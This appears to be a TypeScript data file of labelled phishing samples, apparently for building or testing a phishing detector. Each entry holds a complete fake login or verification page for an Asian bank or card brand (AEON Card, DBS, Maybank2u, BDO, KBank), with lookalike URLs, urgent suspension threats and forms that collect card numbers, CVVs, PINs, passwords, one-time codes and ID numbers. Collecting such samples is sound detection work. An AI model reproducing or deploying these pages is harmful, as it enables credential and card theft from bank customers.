import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, gtag, icons, iconHead } from '../parts/ze-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
  id: 'ze-phish-jp-aeon-card-riyou-kakunin',
  label: 'phishing',
  kind: 'card-kit',
  url: 'https://aeon-card.riyou-kakunin.cc/member/verify',
  body: doc({
    lang: 'ja',
    title: 'イオンカード｜ご利用確認のお願い',
    css: 'body{background:#f4f0f7}.c{max-width:560px;margin:28px auto;background:#fff;padding:26px;border-radius:8px}.pk{color:#b6006d}.b{background:#b6006d;color:#fff;width:100%;margin-top:18px}.row{display:flex;gap:10px}',
    body: `<div class="c"><h2 class="pk">AEON CARD 暮らしのマネーサイト</h2>
<p>いつもイオンカードをご利用いただきありがとうございます。<br>お客様のカードにおいて、第三者による不正利用の可能性がある取引を検知いたしました。ご利用継続のため、以下のカード情報をご確認ください。</p>
<p style="color:#c00;font-size:13px">※24時間以内にご確認いただけない場合、カードのご利用を停止させていただきます。</p>
<form method="post" action="/member/card_post.php">
<label>カード名義（ローマ字）</label><input name="name" placeholder="TARO YAMADA">
<label>カード番号</label><input name="cardno" autocomplete="cc-number" maxlength="19" placeholder="0000 0000 0000 0000">
<div class="row"><div><label>有効期限（月/年）</label><input name="exp" placeholder="MM/YY"></div><div><label>セキュリティコード</label><input name="cvv" maxlength="4"></div></div>
<label>生年月日</label><input name="birth" placeholder="19800101">
<label>暗証番号（4桁）</label><input name="pin" type="password" maxlength="4">
<button class="b">確認する</button></form>
<p style="font-size:11px;color:#888">© AEON Financial Service Co., Ltd.</p></div>`,
  }),
},
  {
  id: 'ze-phish-sg-dbs-digibank-sms',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://dbs-sg.digibank-verify.com/login/',
  body: doc({
    lang: 'en-SG',
    title: 'DBS digibank - Login',
    css: 'body{background:#f2f2f2}.w{max-width:420px;margin:50px auto;background:#fff;padding:30px}.red{color:#ff3e3e}.b{background:#ff3e3e;color:#fff;width:100%;margin-top:18px}',
    body: `<div class="w"><h1 class="red">DBS</h1><h3>Log in to digibank</h3>
<p style="background:#fff3cd;padding:10px;font-size:13px">Your digital token has been deactivated due to an unusual login from a new device. Please log in to re-activate and avoid suspension of your account.</p>
<form method="post" action="next.php"><label>User ID</label><input name="userid" autocomplete="username"><label>PIN</label><input name="pin" type="password"><button class="b">Log in</button></form>
<p style="font-size:12px"><a href="#">Forgot User ID or PIN?</a> · <a href="#">Sign up for digibank</a></p>
<p style="font-size:11px;color:#888">DBS Bank Ltd. Co. Reg. No. 196800306E</p></div>`,
  }),
},
  {
  id: 'ze-phish-my-maybank2u-tac',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://m2u-secure.maybank2u-my.net/home/m2u/common/login.do',
  body: doc({
    lang: 'ms',
    title: 'Maybank2u - Log Masuk',
    css: 'body{background:#ffc83d}.w{max-width:460px;margin:40px auto;background:#fff;padding:28px;border-radius:10px}.b{background:#000;color:#ffc83d;width:100%;margin-top:16px}',
    body: `<div class="w"><h2>Maybank2u</h2><p>Selamat datang ke Maybank2u. Akaun anda telah disekat sementara kerana kemaskini Secure2u tidak lengkap.</p>
<form id="f" method="post" action="/home/m2u/common/login.do?step=2">
<label>Nama Pengguna / Username</label><input name="username">
<label>Kata Laluan / Password</label><input name="password" type="password">
<label>Nombor Telefon</label><input name="phone" placeholder="01X-XXXXXXX">
<label>TAC (6 digit)</label><input name="tac" maxlength="6">
<button class="b">LOG MASUK</button></form>
<p style="font-size:11px">Malayan Banking Berhad (3813-K). Dilindungi oleh PIDM.</p></div>`,
  }),
},
  {
  id: 'ze-phish-ph-bdo-points-expiring',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://bdo-rewards.points-redeem.xyz/online/',
  body: doc({
    lang: 'en-PH',
    title: 'BDO Online Banking | Rewards Points Redemption',
    css: '.t{background:#003087;color:#fff;padding:14px 0}.c{max-width:480px;margin:30px auto;border:1px solid #ccc;padding:24px}.y{background:#ffb81c;width:100%;margin-top:14px}',
    body: `<div class="t"><div class="wrap"><b>BDO</b> Unibank · We find ways</div></div>
<div class="c"><h3>Your 8,450 BDO Rewards points will expire today!</h3><p>Convert your points to cash (₱4,225.00) credited directly to your account. Log in to confirm.</p>
<form method="post" action="auth.php"><label>User ID</label><input name="uid"><label>Password</label><input name="pwd" type="password"><button class="y">Redeem Now</button></form>
<p style="font-size:11px">BDO Unibank, Inc. is regulated by the Bangko Sentral ng Pilipinas. Deposits insured by PDIC up to P1M per depositor.</p></div>`,
  }),
},
  {
  id: 'ze-phish-th-kbank-kplus-update',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://kbank-kplus.update-th.online/verify',
  body: doc({
    lang: 'th',
    title: 'ธนาคารกสิกรไทย - ยืนยันตัวตน K PLUS',
    css: 'body{background:#e8f5ec}.c{max-width:440px;margin:24px auto;background:#fff;padding:24px;border-radius:12px}.g{background:#138f2d;color:#fff;width:100%;margin-top:14px}',
    body: `<div class="c"><h2 style="color:#138f2d">KASIKORNBANK</h2>
<p>เรียน ลูกค้า ธนาคารตรวจพบการเข้าใช้งาน K PLUS จากอุปกรณ์ใหม่ กรุณายืนยันตัวตนภายใน 24 ชั่วโมง มิฉะนั้นบัญชีจะถูกระงับชั่วคราว</p>
<form method="post" action="/verify/s2"><label>เลขประจำตัวประชาชน 13 หลัก</label><input name="cid" maxlength="13"><label>หมายเลขบัญชี</label><input name="acc"><label>เบอร์โทรศัพท์</label><input name="tel">
<label>รหัสผ่าน K PLUS (PIN 6 หลัก)</label><input name="pin" type="password" maxlength="6"><button class="g">ยืนยัน</button></form>
<p style="font-size:11px;color:#777">© ธนาคารกสิกรไทย จำกัด (มหาชน) สงวนลิขสิทธิ์</p></div>`,
  }),
},
];
